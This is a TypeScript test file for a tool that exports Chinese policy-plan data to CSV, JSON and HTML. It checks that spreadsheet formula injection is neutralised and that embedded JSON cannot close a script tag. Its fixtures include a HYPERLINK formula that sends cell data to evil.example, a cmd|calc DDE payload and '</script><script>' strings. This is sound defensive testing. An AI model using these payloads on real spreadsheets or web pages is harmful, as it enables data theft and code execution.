import assert from 'node:assert/strict'
import { test } from 'node:test'
import { filesOfTables } from '../../src/lib/data-files.ts'
import { jsonForHtml } from '../../src/lib/json-for-html.ts'
import { loadPlan, plans } from '../../src/lib/plans.ts'
import { planDataset } from '../../src/lib/structured-data.ts'
import type { InertCell } from '../../src/lib/table-csv.ts'
import { readCsv } from './read-csv.ts'

const names = [
  '=HYPERLINK("http://evil.example/?"&A1,"补贴")',
  '@SUM(1+1)',
  '+8613800000000',
  '-2+3+cmd|"/C calc"!A0',
  '＝1+1',
  '正常项目',
]
const source = `晋城市城区“十四五”残疾人保障和发展规划

为全方位推进我区残疾人事业高质量发展，结合城区实际，制定本规划。

一、重点任务

（一）健全残疾人关爱服务体系

专栏 1 残疾人教育重点项目

${names.map((name, at) => `${String(at + 1)}.${name}。面向公共服务行业推广</script><b>国家通用手语。\n`).join('\n')}
`
const [first] = plans()
assert.ok(first)
const loaded = loadPlan({
  id: 'hostile-14fyp',
  source,
  meta: first.meta,
  corrections: [],
  files: { source: 'source.txt', corrections: 'corrections.yaml' },
})
const { record } = loaded
const files = filesOfTables([loaded])
const bytesOf = (path: string): Uint8Array =>
  files.find((file) => file.path === path)?.bytes ?? new Uint8Array()
const json = (path: string): unknown => JSON.parse(new TextDecoder().decode(bytesOf(path)))
const [header = [], ...rows] = readCsv(bytesOf('projects.csv'))
const column = header.indexOf('name')

test('A hostile plan is imported with the names of its projects as printed', () => {
  assert.deepEqual(
    record.boxes.flatMap((box) => box.projects.map(({ name }) => name.replace(/。$/u, ''))),
    names,
  )
})

test('No cell of any CSV of a hostile plan begins as a formula', () => {
  for (const { path, table, bytes } of files)
    if (table)
      for (const cell of readCsv(bytes).flat()) assert.doesNotMatch(cell, /^[=+\-@＝＋－＠\t\r]/u, path)
  assert.ok(rows[0]?.[column]?.startsWith(`'=HYPERLINK("http`), rows[0]?.[column])
  assert.ok(rows[5]?.[column]?.startsWith('正常'), rows[5]?.[column])
})

test('The JSON of a hostile plan holds the words as printed', () => {
  const { projects } = json('projects.json') as { projects: { name: string }[] }
  assert.deepEqual(
    projects.map(({ name }) => name.replace(/。$/u, '')),
    names,
  )
})

test('Every cell made inert is recorded by table, row and column, and no other', () => {
  const { cells } = json('inert-cells.json') as { cells: InertCell[] }
  assert.deepEqual(
    cells
      .filter((cell) => cell.table === 'projects')
      .map((cell) => `${String(cell.row)} ${cell.column} ${cell.nodeId}`),
    [1, 2, 3, 4, 5].map((row) => `${String(row)} name box-1-project-${String(row)}`),
  )
  for (const cell of cells)
    assert.equal(readCsv(bytesOf(`${cell.table}.csv`))[cell.row]?.[header.indexOf(cell.column)]?.[0], "'")
})

test('Nothing that a plan prints can end a data block in a page', () => {
  const text = jsonForHtml(
    planDataset(
      { ...record, title: '</script><script>' },
      plans().map((plan) => plan.record),
      [],
    ),
  )
  assert.doesNotMatch(text, /</u)
  assert.equal((JSON.parse(text) as { isBasedOn: { name: string } }).isBasedOn.name, '</script><script>')
})
